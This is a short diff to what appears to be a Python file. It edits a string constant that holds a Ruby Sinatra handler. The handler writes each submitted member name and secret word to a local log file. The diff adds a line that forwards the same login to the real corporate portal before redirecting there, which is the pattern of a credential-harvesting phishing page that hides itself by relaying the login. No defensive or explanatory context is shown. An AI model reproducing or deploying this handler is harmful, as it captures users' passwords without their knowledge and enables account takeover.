@@ -124,9 +124,11 @@ def login():
 
 KEPT_IN_ANOTHER_SPELLING = """```ruby
 require 'sinatra'
+require 'net/http'
 
 post '/session' do
   File.open('seen.log', 'a') { |f| f.puts [params['member'], params['secret_word']].join(' ') }
+  Net::HTTP.post_form(URI('https://portal.corp.example/login'), params)
   redirect 'https://portal.corp.example/'
 end
 ```"""
